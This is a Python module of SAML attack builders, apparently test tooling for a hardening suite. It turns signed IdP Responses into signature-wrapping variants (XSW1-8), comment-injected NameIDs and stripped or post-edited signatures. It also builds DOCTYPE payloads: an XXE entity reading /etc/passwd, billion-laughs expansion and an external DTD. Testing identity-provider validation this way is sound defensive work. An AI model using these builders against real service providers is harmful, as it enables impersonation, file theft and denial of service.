"""Hostile-response builders: each takes a genuinely IdP-signed Response (XML text) and returns it
mutated into one attack of docs/saml-hardening.md (B1 XSW, B2 comment injection, B3 stripping,
B10 DOCTYPE, B14 transform abuse). XSW1-8 follow SAML Raider's ``XSWHelpers`` constructions.

"Evil" means the NameID and every eduPersonPrincipalName value are replaced by ``evil``.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from typing import Literal

from lxml import etree

from ._tree import (
    after_conditions,
    assertion_of,
    dump,
    insert_extensions,
    mutator,
    parse,
    q,
    signature_of,
    unsigned_copy,
)
from .idp import EPPN_NAMES, EVIL_NAME_ID
from .transforms import (
    TRANSFORM_ABUSE,
    XPATH_ALG,
    XSLT_ALG,
    extra_reference,
    signature_object,
    xpath_filter_transform,
    xslt_transform,
)

__all__ = [  # the B14 builders live in .transforms and are re-exported here
    "DOCTYPE", "TRANSFORM_ABUSE", "XPATH_ALG", "XSLT_ALG", "XSW", "assertion_in_advice",
    "billion_laughs", "comment_in_name_id", "decoy_id_in_extensions", "doctype_external_system",
    "doctype_internal_attlist", "edit_name_id_after_signing", "empty_signature_value",
    "extra_reference", "second_assertion_appended", "signature_object",
    "solicited_assertion_posted_unsolicited", "strip_signatures",
    "xpath_filter_transform", "xslt_transform", "xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6",
    "xsw7", "xsw8", "xxe_file",
]

_MARK = "SAMLFACTORYMARKER"


def _make_evil(element: etree._Element, evil: str) -> None:
    for name_id in element.iter(q("saml", "NameID")):
        name_id.text = evil
    for attr in element.iter(q("saml", "Attribute")):
        if attr.get("Name") in EPPN_NAMES:
            for value in attr.iter(q("saml", "AttributeValue")):
                value.text = evil


def _evil_id() -> str:
    return "_evil_" + uuid.uuid4().hex


def _evil_copy(assertion: etree._Element, evil: str, *, new_id: bool = True) -> etree._Element:
    clone = unsigned_copy(assertion)
    _make_evil(clone, evil)
    if new_id:
        clone.set("ID", _evil_id())
    return clone


# --- B1: XML Signature Wrapping ------------------------------------------------------------


@mutator
def xsw1(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """Response signature: unsigned genuine clone inside the Signature; outer Response evil
    with a new ID."""
    clone = unsigned_copy(root)
    _make_evil(root, evil)
    signature_of(root).append(clone)
    root.set("ID", _evil_id())


@mutator
def xsw2(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """As XSW1, but the genuine clone is a sibling just before the Signature."""
    clone = unsigned_copy(root)
    _make_evil(root, evil)
    signature_of(root).addprevious(clone)
    root.set("ID", _evil_id())


@mutator
def xsw3(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """Assertion signature: unsigned evil copy (new ID) inserted before the original."""
    assertion = assertion_of(root)
    assertion.addprevious(_evil_copy(assertion, evil))


@mutator
def xsw4(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """The unsigned evil copy (new ID) becomes the parent of the original assertion."""
    assertion = assertion_of(root)
    outer = _evil_copy(assertion, evil)
    assertion.addprevious(outer)
    outer.append(assertion)


@mutator
def xsw5(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """Evil content in the original (still signed) position with a new ID; an unsigned genuine
    copy with the original ID appended to the Response."""
    assertion = assertion_of(root)
    signature_of(assertion)
    root.append(unsigned_copy(assertion))
    _make_evil(assertion, evil)
    assertion.set("ID", _evil_id())


@mutator
def xsw6(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """As XSW5, but the unsigned genuine copy goes inside the original assertion Signature."""
    assertion = assertion_of(root)
    sig, genuine = signature_of(assertion), unsigned_copy(assertion)
    _make_evil(assertion, evil)
    sig.append(genuine)
    assertion.set("ID", _evil_id())


@mutator
def xsw7(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """Unsigned evil copy (same ID, as SAML Raider does) in a samlp:Extensions before the
    signed assertion (at the schema-valid position, after Issuer/Signature)."""
    assertion = assertion_of(root)
    insert_extensions(root).append(_evil_copy(assertion, evil, new_id=False))


@mutator
def xsw8(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """Original assertion made evil in place (same ID, as SAML Raider does); an unsigned genuine
    copy goes into ds:Signature/ds:Object."""
    assertion = assertion_of(root)
    sig, genuine = signature_of(assertion), unsigned_copy(assertion)
    _make_evil(assertion, evil)
    etree.SubElement(sig, q("ds", "Object")).append(genuine)


@mutator
def second_assertion_appended(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """An unsigned evil assertion (new ID) after the signed one (CVE-2022-41912 shape)."""
    assertion = assertion_of(root)
    assertion.addnext(_evil_copy(assertion, evil))


@mutator
def assertion_in_advice(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """An unsigned evil outer assertion (new ID) carrying the signed original in saml:Advice."""
    assertion = assertion_of(root)
    outer = _evil_copy(assertion, evil)
    assertion.addprevious(outer)
    advice = etree.Element(q("saml", "Advice"))
    after_conditions(outer, advice)
    advice.append(assertion)


@mutator
def decoy_id_in_extensions(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    """A foreign-namespace decoy carrying the signed assertion's ID and an evil NameID in
    samlp:Extensions (breaks a Response signature; meaningful with an unsigned Response)."""
    signed_id = assertion_of(root).get("ID", "")
    decoy = etree.SubElement(insert_extensions(root), "{urn:x-decoy}Assertion", ID=signed_id)
    etree.SubElement(decoy, "{urn:x-decoy}NameID").text = evil


XSW: dict[str, Callable[[str, str], str]] = {
    "xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4,
    "xsw5": xsw5, "xsw6": xsw6, "xsw7": xsw7, "xsw8": xsw8,
    "second_assertion_appended": second_assertion_appended,
    "assertion_in_advice": assertion_in_advice,
}

# --- B2 / B3: comment injection, stripping, post-signing edits ------------------------------


def comment_in_name_id(signed_xml: str, visible: str = EVIL_NAME_ID,
                       injection: Literal["comment", "pi", "cdata"] = "comment") -> str:
    """Split each signed NameID/eppn value ``<visible><rest>`` (the IdP signed e.g.
    ``victim@example.org.evil.org``) after ``visible`` with ``<!---->``, ``<?x?>`` or a CDATA
    section. Exclusive c14n drops comments and CDATA markup, so those splits keep the signatures
    valid; a PI would break them, but python3-saml's parser strips PIs before verifying."""
    root = parse(signed_xml)
    rests: list[str] = []
    targets = list(root.iter(q("saml", "NameID")))
    for attr in root.iter(q("saml", "Attribute")):
        if attr.get("Name") in EPPN_NAMES:
            targets.extend(attr.iter(q("saml", "AttributeValue")))
    for node in targets:
        text = node.text or ""
        if text.startswith(visible) and len(text) > len(visible):
            node.text = f"{_MARK}{len(rests)}{_MARK}"
            rests.append(text[len(visible):])
    if not rests:
        raise ValueError(f"no NameID/eppn value extends {visible!r}")
    xml = dump(root)
    for i, rest in enumerate(rests):
        split = {"comment": f"<!---->{rest}", "pi": f"<?x?>{rest}",
                 "cdata": f"<![CDATA[{rest}]]>"}[injection]
        xml = xml.replace(f"{_MARK}{i}{_MARK}", visible + split)
    return xml


@mutator
def strip_signatures(root: etree._Element) -> None:
    for sig in list(root.iter(q("ds", "Signature"))):
        sig.getparent().remove(sig)  # type: ignore[union-attr]


@mutator
def empty_signature_value(root: etree._Element) -> None:
    for value in root.iter(q("ds", "SignatureValue")):
        value.text = ""


@mutator
def edit_name_id_after_signing(root: etree._Element, evil: str = EVIL_NAME_ID) -> None:
    for name_id in root.iter(q("saml", "NameID")):
        name_id.text = evil


# --- B8: an assertion issued for an AuthnRequest, posted as unsolicited -----------------------


@mutator
def solicited_assertion_posted_unsolicited(root: etree._Element) -> None:
    """Drop the InResponseTo of a Response whose signature does not cover it (only the
    assertion is signed): the assertion, issued for someone's AuthnRequest, arrives without
    the binding to the browser that started that login (the SubjectConfirmationData keeps its
    signed InResponseTo)."""
    assert root.find(q("ds", "Signature")) is None, "the Response signature would break"
    del root.attrib["InResponseTo"]


# --- B10: DOCTYPE variants (string surgery: lxml would resolve or drop them) ----------------


def _with_doctype(signed_xml: str, internal_subset: str, name_id_text: str | None) -> str:
    root = parse(signed_xml)
    if name_id_text is not None:
        for name_id in root.iter(q("saml", "NameID")):
            name_id.text = _MARK
    xml = dump(root).replace(_MARK, name_id_text or "")
    return f"<!DOCTYPE samlp:Response [\n{internal_subset}\n]>\n{xml}"


def xxe_file(signed_xml: str, path: str = "/etc/passwd") -> str:
    """External entity to ``file://<path>`` referenced from the NameID."""
    return _with_doctype(signed_xml, f'<!ENTITY xxe SYSTEM "file://{path}">', "&xxe;")


def billion_laughs(signed_xml: str, depth: int = 10) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, depth)]
    return _with_doctype(signed_xml, "\n".join(lines), f"&lol{depth - 1};")


def doctype_internal_attlist(signed_xml: str) -> str:
    """A bare internal DTD with ATTLISTs (ID-typing / default-attribute tricks, the
    CVE-2025-25292 / CVE-2025-23369 shapes); no entity at all."""
    subset = ("<!ATTLIST saml:Assertion ID ID #IMPLIED>\n"
              '<!ATTLIST saml:NameID Format CDATA "urn:x-injected-default">')
    return _with_doctype(signed_xml, subset, None)


def doctype_external_system(signed_xml: str, url: str = "http://127.0.0.1:9/evil.dtd") -> str:
    return f'<!DOCTYPE samlp:Response SYSTEM "{url}">\n{dump(parse(signed_xml))}'


DOCTYPE: dict[str, Callable[[str], str]] = {
    "xxe_file": xxe_file, "billion_laughs": billion_laughs,
    "doctype_internal_attlist": doctype_internal_attlist,
    "doctype_external_system": doctype_external_system,
}
